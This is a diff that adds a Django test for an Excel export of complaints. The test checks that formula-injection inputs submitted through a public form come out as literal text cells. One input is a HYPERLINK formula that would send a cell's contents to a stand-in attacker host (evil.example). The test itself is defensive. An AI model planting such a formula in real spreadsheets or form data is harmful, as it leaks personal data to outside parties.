@@ -1,6 +1,7 @@
 """Export of a filtered list to Excel (X-4), personal data masked per row (ORG-3)."""
 
 import io
+import zipfile
 
 from django.urls import reverse
 from openpyxl import load_workbook
@@ -49,3 +50,19 @@ def test_it_refuses_an_export_above_the_cap(clock, org, client, register, monkey
     response = client.get(reverse("complaints:export"), follow=True)
     assert response.redirect_chain[-1][0].startswith(reverse("complaints:list"))
     assert any("2" in str(m) for m in response.context["messages"])
+
+
+def test_a_formula_from_the_public_form_is_exported_as_text(clock, org, client, register):
+    """Issue 6 item 6: a subject "=HYPERLINK(…)" or a name "=2+3" is a text cell in the
+    export, shown verbatim, never a live formula."""
+    link = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
+    register(title=link, customer_name="=2+3", content="@SUM(1+1)\x07")
+    client.force_login(org.registrar)
+    content = b"".join(client.get(reverse("complaints:export")).streaming_content)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheet = next(name for name in archive.namelist() if "worksheets/" in name)
+        assert b"<f>" not in archive.read(sheet)
+    row = list(load_workbook(io.BytesIO(content)).active.iter_rows())[1]
+    values = [cell.value for cell in row]
+    assert link in values and "=2+3" in values and "@SUM(1+1)\ufffd" in values
+    assert all(cell.data_type == "s" for cell in row if isinstance(cell.value, str))
